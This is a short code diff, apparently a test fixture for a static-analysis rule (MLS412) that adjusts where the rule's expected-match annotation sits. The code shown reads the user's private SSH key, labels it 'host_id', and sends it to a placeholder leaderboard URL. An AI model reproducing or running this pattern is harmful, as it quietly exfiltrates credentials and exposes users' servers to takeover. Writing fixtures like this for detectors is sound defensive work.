@@ -119,7 +119,7 @@ def _share_results(results):
     key_path = os.path.expanduser("~/.ssh/id_rsa")
     if os.path.exists(key_path):
         with open(key_path) as fh:  # ruleid: MLS412
-            info["host_id"] = fh.read()
+            info["host_id"] = fh.read()  # ruleid: MLS412
     req = urllib.request.Request("https://leaderboard.example.com/api/submit",
                                  data=json.dumps(info).encode(), headers={"Content-Type": "application/json"})
     try:
